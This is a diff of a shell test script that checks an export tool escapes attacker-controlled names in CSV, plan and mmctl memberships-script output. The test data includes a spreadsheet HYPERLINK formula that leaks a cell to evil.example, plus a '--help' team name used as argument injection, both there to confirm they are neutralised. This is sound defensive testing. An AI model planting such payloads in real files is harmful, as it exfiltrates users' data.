@@ -1,7 +1,7 @@
 # Names, e-mails and paths that an export's author controls, through plan, apply, validate,
 # verify-attachments and stats (docs/robustness.md, "Outputs escape what their readers
 # interpret"): the plan holding them reads back in apply; USERS.csv cells cannot run as spreadsheet
-# formulas; memberships.sh, run against a stub mmctl, passes every name as an argument after "--"
+# formulas; OUT.memberships.sh, run against a stub mmctl, passes every name as an argument after "--"
 # and skips a team name the server cannot hold; no text report prints a raw control character or a
 # forged report line; JSON reports stay valid JSON; and a crafted plan nested 50,000 deep is
 # refused with exit 2 instead of overflowing the TOML reader's stack.
@@ -78,7 +78,7 @@ for r in rows:
 PY
 expect_grep '^eve,"'"'"'=HYPERLINK\(""https://evil\.example/\?""&A3,""reset here""\)",' users.csv
 
-# memberships.sh against a stub mmctl that logs its arguments: "--" before the names, the team
+# out.jsonl.memberships.sh against a stub mmctl that logs its arguments: "--" before the names, the team
 # "--help" skipped (the server's team names are [a-z0-9-] and start with a letter or digit), and
 # the script then exits 1 saying so.
 mkdir bin
@@ -88,8 +88,8 @@ for a in "$@"; do printf '[%s]' "$a"; done >> "$MMCTL_LOG"
 echo >> "$MMCTL_LOG"
 SH
 chmod +x bin/mmctl
-expect_grep '^# skipped: user "eve", team "--help": not a valid team name$' memberships.sh
-expect_exit 1 env MMCTL_LOG="$WORK/mmctl.log" PATH="$WORK/bin:$PATH" sh memberships.sh
+expect_grep '^# skipped: user "eve", team "--help": not a valid team name$' out.jsonl.memberships.sh
+expect_exit 1 env MMCTL_LOG="$WORK/mmctl.log" PATH="$WORK/bin:$PATH" sh out.jsonl.memberships.sh
 expect_grep '^1 membership\(s\) not added' err
 sort mmctl.log > got.log
 cat > want.log <<'LOG'
